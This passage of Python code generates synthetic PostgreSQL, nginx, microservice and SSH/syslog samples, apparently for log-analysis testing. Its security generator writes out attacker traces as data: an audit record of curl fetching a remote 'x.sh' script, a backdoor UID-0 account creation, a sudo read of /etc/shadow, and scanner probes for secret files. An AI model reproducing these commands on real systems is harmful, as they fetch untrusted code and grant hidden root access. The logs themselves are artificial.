        pid = rng.randint(1000, 60000)
        out = [
            pg("LOG", f"server process (PID {pid}) was terminated by signal 9: Killed", "@"),
            pg(
                "DETAIL",
                "Failed process was running: SELECT * FROM events ORDER BY created_at",
                "@",
            ),
            pg("LOG", "terminating any other active server processes", "@"),
            pg("LOG", "all server processes terminated; reinitializing", "@"),
        ]
        clock.tick(500, 3000)
        out += [
            pg(
                "LOG",
                "database system was interrupted; last known up at "
                f"{clock.now.strftime('%Y-%m-%d %H:%M:%S')} UTC",
                "@",
            ),
            pg(
                "LOG",
                "database system was not properly shut down; automatic recovery in progress",
                "@",
            ),
            pg("LOG", f"redo starts at 0/{_hex(rng, 8).upper()}", "@"),
            pg("LOG", f"redo done at 0/{_hex(rng, 8).upper()}", "@"),
            pg("LOG", "database system is ready to accept connections", "@"),
        ]
        return out

    def disk_full() -> Event:
        clock.tick(1000, 30000)
        return [
            pg(
                "PANIC",
                f'could not write to file "pg_wal/xlogtemp.{rng.randint(100, 999)}":'
                " No space left on device",
                "@",
            ),
            pg("LOG", "WAL writer process (PID 88) was terminated by signal 6: Aborted", "@"),
        ]

    def replication() -> Event:
        clock.tick(1000, 30000)
        return [
            pg(
                rng.choice(["WARNING", "LOG"]),
                rng.choice(
                    [
                        "could not receive data from WAL stream: server closed the connection unexpectedly",
                        f"checkpoints are occurring too frequently ({rng.randint(8, 29)} seconds apart)",
                        f'replication slot "standby_1" is lagging {rng.randint(2, 40)} GB behind',
                        f'temporary file: path "base/pgsql_tmp/pgsql_tmp{rng.randint(100, 999)}.0", '
                        f"size {rng.randint(10**8, 9 * 10**9)}",
                    ]
                ),
                "@",
            )
        ]

    return _build(
        rng,
        start,
        [
            (22, connection),
            (5, checkpoint),
            (5, vacuum),
            (18, fast_stmt),
            (7, slow_query),
            (4, deadlock),
            (3, serialization),
            (3, timeout),
            (3, pool_exhaustion),
            (3, client_reset),
            (1, crash_recovery),
            (1, disk_full),
            (4, replication),
        ],
    )


# =========================================================================== WebServer

_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
    "okhttp/4.12.0",
    "curl/8.5.0",
    "kube-probe/1.29",
]


def _web_server(rng: random.Random) -> str:
    clock = Clock(rng, datetime(2025, 3, 13, 19, 0, 0))
    host = "shop.example.com"
    upstreams = [f"10.0.5.{i}:8080" for i in (11, 12, 13)]

    def access(
        method: str, path: str, status: int, size: int, rt: float, ua: str | None = None
    ) -> str:
        ts = f"{clock.now.day:02d}/{_mon(clock.now)}/{clock.now:%Y:%H:%M:%S} +0000"
        return (
            f'{_ip(rng)} - - [{ts}] "{method} {path} HTTP/1.1" {status} {size} "-" '
            f'"{ua or rng.choice(_UAS)}" rt={rt:.3f} req_id={_hex(rng, 32)}'
        )

    def err(level: str, msg: str) -> str:
        return (
            f"{clock.now.strftime('%Y/%m/%d %H:%M:%S')} [{level}] "
            f"{rng.randint(20, 40)}#{rng.randint(20, 40)}: *{rng.randint(1000, 999999)} {msg}"
        )

    start = []
    for msg in [
        'using the "epoll" event method',
        "nginx/1.24.0",
        "OS: Linux 6.1.0-18-amd64",
        "start worker processes",
    ]:
        clock.tick(1, 10)
        start.append(f"{clock.now.strftime('%Y/%m/%d %H:%M:%S')} [notice] 1#1: {msg}")

    def ok() -> Event:
        clock.tick(10, 2500)
        method, path, status = rng.choice(
            [
                ("GET", "/", 200),
                ("GET", "/products/sku-{n}", 200),
                ("GET", "/static/app.{h}.js", 200),
                ("GET", "/api/v2/cart", 200),
                ("POST", "/api/v2/cart/items", 201),
                ("GET", "/healthz", 200),
                ("GET", "/static/logo.svg", 304),
                ("GET", "/old-catalog", 301),
            ]
        )
        path = path.replace("{n}", str(rng.randint(1000, 9999))).replace("{h}", _hex(rng, 8))
        ua = "kube-probe/1.29" if path == "/healthz" else None
        return [
            access(
                method,
                path,
                status,
                rng.randint(0 if status == 304 else 200, 90000),
                rng.uniform(0.001, 0.3),
                ua,
            )
        ]

    def not_found() -> Event:
        clock.tick(10, 4000)
        path = rng.choice(["/favicon.ico", "/products/sku-0000", "/apple-touch-icon.png"])
        return [access("GET", path, 404, rng.randint(150, 600), rng.uniform(0.001, 0.01))]

    def burst_5xx() -> Event:
        up = rng.choice(upstreams)
        out = []
        kind = rng.choice(["timeout", "refused", "nolive"])
        for _ in range(rng.randint(3, 9)):
            clock.tick(5, 900)
            path = rng.choice(["/api/v2/cart", "/api/v2/checkout", "/api/v2/products?page=2"])
            if kind == "timeout":
                out.append(
                    err(
                        "error",
                        "upstream timed out (110: Connection timed out) while "
                        "reading response header from upstream, client: "
                        f'{_ip(rng)}, server: {host}, request: "GET {path} '
                        f'HTTP/1.1", upstream: "http://{up}{path}", '
                        f'host: "{host}"',
                    )
                )
                out.append(access("GET", path, 504, 167, 60.0 + rng.uniform(0, 0.01)))
            elif kind == "refused":
                out.append(
                    err(
                        "error",
                        "connect() failed (111: Connection refused) while "
                        f"connecting to upstream, client: {_ip(rng)}, server: "
                        f'{host}, request: "POST {path} HTTP/1.1", upstream: '
                        f'"http://{up}{path}", host: "{host}"',
                    )
                )
                out.append(access("POST", path, 502, 157, rng.uniform(0.001, 0.01)))
            else:
                out.append(
                    err(
                        "error",
                        f"no live upstreams while connecting to upstream, "
                        f"client: {_ip(rng)}, server: {host}, request: "
                        f'"GET {path} HTTP/1.1", upstream: '
                        f'"http://shop_backend{path}"',
                    )
                )
                out.append(access("GET", path, 503, 197, 0.0))
        return out

    def slow() -> Event:
        clock.tick(10, 3000)
        return [
            access(
                "GET",
                "/api/v2/search?q=" + rng.choice(["shoes", "tv", "lamp"]),
                200,
                rng.randint(2000, 90000),
                rng.uniform(8, 45),
            )
        ]

    def buffered() -> Event:
        clock.tick(10, 6000)
        return [
            err(
                "warn",
                "an upstream response is buffered to a temporary file "
                f"/var/cache/nginx/proxy_temp/{rng.randint(1, 9)}/"
                f"{rng.randint(10, 99)}/"
                f"{rng.randint(10**9, 9 * 10**9)} while reading upstream, client: "
                f'{_ip(rng)}, server: {host}, request: "GET /export/orders.csv '
                'HTTP/1.1"',
            )
        ]

    def scanner() -> Event:
        ip = _ip(rng)
        out = []
        for path in rng.sample(
            [
                "/wp-login.php",
                "/.env",
                "/.git/config",
                "/phpmyadmin/",
                "/cgi-bin/luci/;stok=/locale",
                "/actuator/env",
                "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            ],
            k=rng.randint(3, 6),
        ):
            clock.tick(5, 300)
            ts = f"{clock.now.day:02d}/{_mon(clock.now)}/{clock.now:%Y:%H:%M:%S} +0000"
            out.append(
                f'{ip} - - [{ts}] "GET {path} HTTP/1.1" 404 153 "-" '
                f'"Mozilla/5.0 zgrab/0.x" rt=0.000 req_id={_hex(rng, 32)}'
            )
        return out

    def ssl_and_limits() -> Event:
        clock.tick(10, 6000)
        return [
            err(
                *rng.choice(
                    [
                        (
                            "crit",
                            f"SSL_do_handshake() failed (SSL: error:0A00006C:SSL routines::bad key "
                            f"share) while SSL handshaking, client: {_ip(rng)}, server: 0.0.0.0:443",
                        ),
                        (
                            "error",
                            f'limiting requests, excess: {rng.uniform(10, 50):.3f} by zone "api", '
                            f'client: {_ip(rng)}, server: {host}, request: "POST /api/v2/login '
                            'HTTP/1.1"',
                        ),
                        (
                            "error",
                            f"client intended to send too large body: {rng.randint(10**7, 10**8)} "
                            f'bytes, client: {_ip(rng)}, server: {host}, request: "POST '
                            '/api/v2/uploads HTTP/1.1"',
                        ),
                        (
                            "alert",
                            f"worker process {rng.randint(20, 40)} exited on signal 11 (core dumped)",
                        ),
                        (
                            "warn",
                            "upstream server temporarily disabled while reading response header from "
                            f"upstream, client: {_ip(rng)}, server: {host}",
                        ),
                    ]
                )
            )
        ]

    def reload_() -> Event:
        clock.tick(1000, 30000)
        return [
            f"{clock.now.strftime('%Y/%m/%d %H:%M:%S')} [notice] 1#1: signal 1 (SIGHUP) "
            "received from 4412, reconfiguring",
            f"{clock.now.strftime('%Y/%m/%d %H:%M:%S')} [notice] 1#1: reconfiguring",
            f"{clock.now.strftime('%Y/%m/%d %H:%M:%S')} [notice] 1#1: start worker processes",
            f"{clock.now.strftime('%Y/%m/%d %H:%M:%S')} [notice] 21#21: gracefully shutting down",
        ]

    return _build(
        rng,
        start,
        [
            (60, ok),
            (7, not_found),
            (3, burst_5xx),
            (4, slow),
            (2, buffered),
            (2, scanner),
            (7, ssl_and_limits),
            (1, reload_),
        ],
    )


# =========================================================================== Microservices


def _microservices(rng: random.Random) -> str:
    clock = Clock(rng, datetime(2025, 3, 14, 9, 0, 0))
    services = {
        "gateway": "7d9f8c6b5",
        "checkout": "5c8b9d7f4",
        "payments": "6f7d8c9b2",
        "inventory": "84c9f6d7b",
        "notifier": "59b7c8d6f",
    }
    pods = {s: [f"{s}-{h}-{_hex(rng, 5)}" for _ in range(3)] for s, h in services.items()}

    def ts() -> str:
        return clock.now.strftime("%Y-%m-%dT%H:%M:%S.") + f"{clock.now.microsecond // 1000:03d}Z"

    def lf(level: str, svc: str, msg: str, trace: str | None = None, **kv: object) -> str:
        parts = [ts(), f"level={level}", f"service={svc}", f"pod={rng.choice(pods[svc])}"]
        if trace:
            parts += [f"trace_id={trace}", f"span_id={_hex(rng, 16)}"]
        parts.append(f'msg="{msg}"')
        parts += [
            f'{k}="{v}"' if isinstance(v, str) and " " in v else f"{k}={v}" for k, v in kv.items()
        ]
        return " ".join(parts)

    def pylog(level: str, msg: str) -> str:
        return (
            f"{clock.now.strftime('%Y-%m-%d %H:%M:%S')},{clock.now.microsecond // 1000:03d} "
            f"{level} [notifier.worker] {msg}"
        )

    start = []
    for svc in services:
        clock.tick(100, 3000)
        start.append(
            lf(
                "info",
                svc,
                "service started",
                version=f"v{rng.randint(1, 4)}.{rng.randint(0, 30)}.{rng.randint(0, 9)}",
                port=8080,
            )
        )

    def ok() -> Event:
        clock.tick(10, 1500)
        trace = _hex(rng, 32)
        svc, path = rng.choice(
            [
                ("gateway", "/v1/products"),
                ("checkout", "/v1/checkout"),
                ("inventory", "/v1/stock"),
                ("payments", "/v1/authorize"),
            ]
        )
        return [
            lf(
                "info",
                svc,
                "request completed",
                trace,
                method=rng.choice(["GET", "POST"]),
                path=path,
                status=200,
                duration_ms=rng.randint(2, 250),
            )
        ]

    def debug() -> Event:
        clock.tick(100, 5000)
        svc = rng.choice(list(services))
        return [
            lf(
                "debug",
                svc,
                rng.choice(
                    [
                        "health check ok",
                        "config reloaded",
                        "cache refreshed",
                        "leader lease renewed",
                    ]
                ),
            )
        ]

    def kafka() -> Event:
        clock.tick(100, 5000)
        return [
            lf(
                "info",
                "notifier",
                "consumed batch",
                topic="order-events",
                partition=rng.randint(0, 11),
                offset=rng.randint(10**5, 10**7),
                count=rng.randint(1, 200),
            )
        ]

    def timeout_retry() -> Event:
        trace = _hex(rng, 32)
        out = []
        attempts = rng.randint(2, 3)
        for a in range(1, attempts + 1):
            clock.tick(200, 2500)
            out.append(
                lf(
                    "warn",
                    "checkout",
                    "retrying upstream call",
                    trace,
                    upstream="payments",
                    attempt=f"{a}/{attempts}",
                    backoff_ms=100 * 2**a,
                    err="rpc error: code = DeadlineExceeded desc = context deadline exceeded",
                )
            )
        clock.tick(10, 300)
        if rng.random() < 0.6:
            out.append(
                lf(
                    "error",
                    "checkout",
                    "checkout failed",
                    trace,
                    order_id=_hex(rng, 12),
                    err="payments: retry budget exhausted",
                )
            )
            out.append(
                lf(
                    "info",
                    "gateway",
                    "request completed",
                    trace,
                    method="POST",
                    path="/v1/checkout",
                    status=503,
                    duration_ms=rng.randint(3000, 9000),
                )
            )
        else:
            out.append(
                lf(
                    "info",
                    "checkout",
                    "upstream call succeeded after retry",
                    trace,
                    upstream="payments",
                    attempts=attempts + 1,
                )
            )
        return out

    def breaker() -> Event:
        clock.tick(500, 5000)
        up = rng.choice(["payments", "inventory"])
        out = [
            lf(
                "warn",
                "checkout",
                "circuit breaker state changed",
                name=up,
                **{"from": "closed"},
                to="open",
                failures=rng.randint(5, 20),
                window="10s",
            )
        ]
        for _ in range(rng.randint(1, 4)):
            clock.tick(20, 800)
            out.append(
                lf(
                    "warn",
                    "checkout",
                    "request short-circuited",
                    _hex(rng, 32),
                    upstream=up,
                    reason="breaker open",
                )
            )
        clock.tick(15000, 30000)
        out.append(
            lf(
                "info",
                "checkout",
                "circuit breaker state changed",
                name=up,
                **{"from": "open"},
                to="half-open",
            )
        )
        return out

    def rate_limited() -> Event:
        clock.tick(100, 3000)
        return [
            lf(
                "warn",
                "gateway",
                "rate limit exceeded",
                _hex(rng, 32),
                client=f"partner-{rng.randint(1, 9)}",
                limit="100/s",
                status=429,
            )
        ]

    def python_traceback() -> Event:
        clock.tick(500, 8000)
        tid = _hex(rng, 8)
        out = [
            pylog(
                "ERROR",
                f"task send_receipt[{tid}] raised unexpected: "
                "ConnectionError('Error 111 connecting to redis:6379. Connection "
                "refused.')",
            ),
            "Traceback (most recent call last):",
            '  File "/usr/local/lib/python3.12/site-packages/redis/connection.py", line 357, '
            "in connect",
            "    sock = self.retry.call_with_retry(",
            '  File "/usr/local/lib/python3.12/site-packages/redis/connection.py", line 724, '
            "in _connect",
            "    raise err",
            "ConnectionRefusedError: [Errno 111] Connection refused",
            "During handling of the above exception, another exception occurred:",
            "Traceback (most recent call last):",
            f'  File "/app/notifier/tasks.py", line {rng.randint(40, 200)}, in send_receipt',
            '    template = cache.get(f"receipt:{order.locale}")',
            f'  File "/app/notifier/cache.py", line {rng.randint(10, 90)}, in get',
            "    return self.client.get(key)",
            "redis.exceptions.ConnectionError: Error 111 connecting to redis:6379. "
            "Connection refused.",
        ]
        clock.tick(1000, 9000)
        out.append(pylog("WARNING", f"Retry in {rng.choice([2, 4, 8])}s: task send_receipt[{tid}]"))
        return out

    def python_keyerror() -> Event:
        clock.tick(500, 8000)
        return [
            pylog("ERROR", f"failed to render template for order {_hex(rng, 12)}"),
            "Traceback (most recent call last):",
            f'  File "/app/notifier/render.py", line {rng.randint(20, 120)}, in render',
            "    return TEMPLATES[locale].format(**context)",
            f"KeyError: '{rng.choice(['pt_BR', 'tr_TR', 'uk_UA'])}'",
        ]

    def k8s() -> Event:
        clock.tick(1000, 20000)
        svc = rng.choice(list(services))
        pod = rng.choice(pods[svc])
        reason, msg = rng.choice(
            [
                ("BackOff", f"Back-off restarting failed container {svc} in pod {pod}"),
                (
                    "OOMKilling",
                    f"Memory cgroup out of memory: Killed process {rng.randint(10, 99)} "
                    f"({svc}) in pod {pod}",
                ),
                ("Unhealthy", "Readiness probe failed: HTTP probe failed with statuscode: 503"),
                (
                    "Pulled",
                    f'Successfully pulled image "registry.internal/{svc}:'
                    f'v{rng.randint(1, 4)}.{rng.randint(0, 30)}.{rng.randint(0, 9)}"',
                ),
                (
                    "ScalingReplicaSet",
                    f"Scaled up replica set {svc}-{services[svc]} to {rng.randint(3, 8)}",
                ),
            ]
        )
        kind = "Warning" if reason in ("BackOff", "OOMKilling", "Unhealthy") else "Normal"
        return [f'{ts()} k8s-event type={kind} reason={reason} object=pod/{pod} message="{msg}"']

    return _build(
        rng,
        start,
        [
            (40, ok),
            (10, debug),
            (8, kafka),
            (5, timeout_retry),
            (2, breaker),
            (3, rate_limited),
            (2, python_traceback),
            (2, python_keyerror),
            (6, k8s),
        ],
    )


# =========================================================================== SecurityEvents


def _security_events(rng: random.Random) -> str:
    clock = Clock(rng, datetime(2025, 3, 15, 0, 0, 0))
    host = "edge-bastion-2"
    admins = ["ops", "alice", "deploy"]

    def sl(tag: str, msg: str) -> str:
        return f"{_syslog_ts(clock.now)} {host} {tag}: {msg}"

    def sshd(msg: str) -> str:
        return sl(f"sshd[{rng.randint(1000, 60000)}]", msg)

    start = []
    for tag, msg in [
        ("systemd[1]", "Starting ssh.service - OpenBSD Secure Shell server..."),
        ("sshd[611]", "Server listening on 0.0.0.0 port 22."),
        ("sshd[611]", "Server listening on :: port 22."),
        ("systemd[1]", "Started ssh.service - OpenBSD Secure Shell server."),
    ]:
        clock.tick(10, 500)
        start.append(sl(tag, msg))

    def login() -> Event:
        clock.tick(1000, 60000)
        user, ip = rng.choice(admins), _ip(rng, private=True)
        pid = rng.randint(1000, 60000)
        out = [
            sl(
                f"sshd[{pid}]",
                f"Accepted publickey for {user} from {ip} port "
                f"{rng.randint(30000, 65000)} ssh2: ED25519 SHA256:"
                f"{_hex(rng, 43)}",
            ),
            sl(
                f"sshd[{pid}]",
                f"pam_unix(sshd:session): session opened for user {user}"
                f"(uid={1000 + admins.index(user)}) by (uid=0)",
            ),
        ]
        if rng.random() < 0.5:
            clock.tick(5000, 90000)
            out.append(
                sl(f"sshd[{pid}]", f"pam_unix(sshd:session): session closed for user {user}")
            )
        return out

    def cron() -> Event:
        clock.tick(1000, 60000)
        pid = rng.randint(1000, 60000)
        return [
            sl(
                f"CRON[{pid}]",
                "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
            ),
            sl(f"CRON[{pid}]", "pam_unix(cron:session): session closed for user root"),
        ]

    def sudo_ok() -> Event:
        clock.tick(1000, 60000)
        user = rng.choice(admins)
        cmd = rng.choice(
            [
                "/usr/bin/systemctl restart nginx",
                "/usr/bin/apt-get update",
                "/usr/bin/journalctl -u nginx --since today",
                "/usr/bin/docker ps",
            ]
        )
        return [
            sl(
                "sudo",
                f"   {user} : TTY=pts/{rng.randint(0, 4)} ; PWD=/home/{user} ; "
                f"USER=root ; COMMAND={cmd}",
            ),
            sl(
                "sudo",
                f"pam_unix(sudo:session): session opened for user root(uid=0) by "
                f"{user}(uid={1000 + admins.index(user)})",
            ),
        ]

    def sudo_bad() -> Event:
        clock.tick(1000, 60000)
        user = rng.choice(["www-data", "intern", "alice"])
        return [
            sl(
                "sudo",
                rng.choice(
                    [
                        f"pam_unix(sudo:auth): authentication failure; logname={user} uid=1004 euid=0 "
                        f"tty=/dev/pts/1 ruser={user} rhost=  user={user}",
                        f"   {user} : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/tmp ; USER=root ; "
                        "COMMAND=/bin/cat /etc/shadow",
                        f"   {user} : user NOT in sudoers ; TTY=pts/2 ; PWD=/var/www ; USER=root ; "
                        "COMMAND=/bin/bash",
                    ]
                ),
            )
        ]

    def brute_force() -> Event:
        ip = _ip(rng)
        out = []
        for user in rng.choices(
            ["root", "admin", "ubuntu", "test", "oracle", "git", "deploy"], k=rng.randint(5, 14)
        ):
            clock.tick(200, 3000)
            port, tag = rng.randint(30000, 65000), f"sshd[{rng.randint(1000, 60000)}]"
            if user in ("root", "deploy"):
                out.append(sl(tag, f"Failed password for {user} from {ip} port {port} ssh2"))
            else:
                out.append(sl(tag, f"Invalid user {user} from {ip} port {port}"))
                clock.tick(100, 2000)
                out.append(
                    sl(tag, f"Failed password for invalid user {user} from {ip} port {port} ssh2")
                )
        clock.tick(10, 500)
        out.append(
            sshd(
                f"error: maximum authentication attempts exceeded for root from {ip} "
                f"port {rng.randint(30000, 65000)} ssh2 [preauth]"
            )
        )
        out.append(
            sshd(
                f"Disconnecting authenticating user root {ip} port "
                f"{rng.randint(30000, 65000)}: Too many authentication failures "
                "[preauth]"
            )
        )
        clock.tick(10, 500)
        out.append(sl(f"fail2ban.actions[{rng.randint(700, 900)}]", f"NOTICE  [sshd] Ban {ip}"))
        if rng.random() < 0.25:  # and the one that got in
            clock.tick(1000, 30000)
            out.append(
                sshd(
                    f"Accepted password for deploy from {ip} port {rng.randint(30000, 65000)} ssh2"
                )
            )
            out.append(
                sl(
                    "useradd[4412]",
                    "new user: name=sysupdate, UID=0, GID=0, "
                    "home=/var/tmp/.s, shell=/bin/bash, from=/dev/pts/3",
                )
            )
        return out

    def noise_preauth() -> Event:
        clock.tick(1000, 60000)
        ip = _ip(rng)
        return [
            sshd(
                rng.choice(
                    [
                        f"Received disconnect from {ip} port {rng.randint(30000, 65000)}:11: Bye Bye "
                        "[preauth]",
                        f"Connection closed by {ip} port {rng.randint(30000, 65000)} [preauth]",
                        "error: kex_exchange_identification: Connection closed by remote host",
                        f"banner exchange: Connection from {ip} port {rng.randint(30000, 65000)}: invalid "
                        "format",
                    ]
                )
            )
        ]

    def ufw_scan() -> Event:
        src = _ip(rng)
        out = []
        for port in rng.sample(
            [21, 23, 25, 445, 1433, 3306, 3389, 5432, 5900, 6379, 8080, 9200], k=rng.randint(3, 8)
        ):
            clock.tick(5, 400)
            out.append(
                sl(
                    "kernel",
                    f"[UFW BLOCK] IN=eth0 OUT= MAC=02:42:ac:11:00:02 SRC={src} "
                    f"DST=10.0.0.5 LEN=44 TOS=0x00 PREC=0x00 TTL="
                    f"{rng.randint(40, 250)} ID={rng.randint(1, 65535)} PROTO=TCP "
                    f"SPT={rng.randint(30000, 65000)} DPT={port} WINDOW=1024 "
                    "RES=0x00 SYN URGP=0",
                )
            )
        return out

    def audit() -> Event:
        clock.tick(1000, 60000)
        n = rng.randint(100, 9999)
        return [
            sl(
                "audit",
                rng.choice(
                    [
                        f"type=USER_AUTH msg=audit({_epoch(clock.now):.3f}:{n}): pid={rng.randint(1000, 60000)}"
                        f" uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication "
                        f'grantors=? acct="root" exe="/usr/sbin/sshd" hostname={_ip(rng)} '
                        f"addr={_ip(rng)} terminal=ssh res=failed'",
                        f"type=SYSCALL msg=audit({_epoch(clock.now):.3f}:{n}): arch=c000003e syscall=257 "
                        'success=yes exit=3 comm="vim" exe="/usr/bin/vim.basic" key="sshd_config"',
                        f'type=EXECVE msg=audit({_epoch(clock.now):.3f}:{n}): argc=3 a0="curl" '
                        'a1="-fsSL" a2="http://45.9.148.12/x.sh"',
                        f"type=USER_CHAUTHTOK msg=audit({_epoch(clock.now):.3f}:{n}): op=change password "
                        'id=0 exe="/usr/bin/passwd" res=success',
                    ]
                ),
            )
        ]

    def account_change() -> Event:
        clock.tick(1000, 60000)
        return [
            sl(
                rng.choice(["usermod[5120]", "gpasswd[5121]", "passwd[5122]"]),
                rng.choice(
                    [
                        "add 'deploy' to group 'sudo'",
                        "user intern added by root to group docker",
                        "password changed for root",
                        "add 'deploy' to shadow group 'sudo'",
                    ]
                ),
            )
        ]

    return _build(
        rng,
        start,
        [
            (22, login),
            (14, cron),
            (10, sudo_ok),
            (4, sudo_bad),
            (3, brute_force),
            (12, noise_preauth),
            (3, ufw_scan),
            (5, audit),
            (2, account_change),
        ],
    )


GENERATORS: dict[str, Callable[[random.Random], str]] = {
    "JavaApp": _java_app,
    "KernelErrors": _kernel_errors,
    "DatabaseErrors": _database_errors,
    "WebServer": _web_server,
    "Microservices": _microservices,
    "SecurityEvents": _security_events,
}


def generate(name: str, seed: int = DEFAULT_SEED) -> str:
    """The synthetic sample ``name`` for ``seed`` (same inputs, same text, byte for byte)."""
    try:
        make = GENERATORS[name]
    except KeyError:
        raise ValueError(
            f"{name} is not a synthetic dataset; known: {', '.join(GENERATORS)}"
        ) from None
    return make(_rng(name, seed))
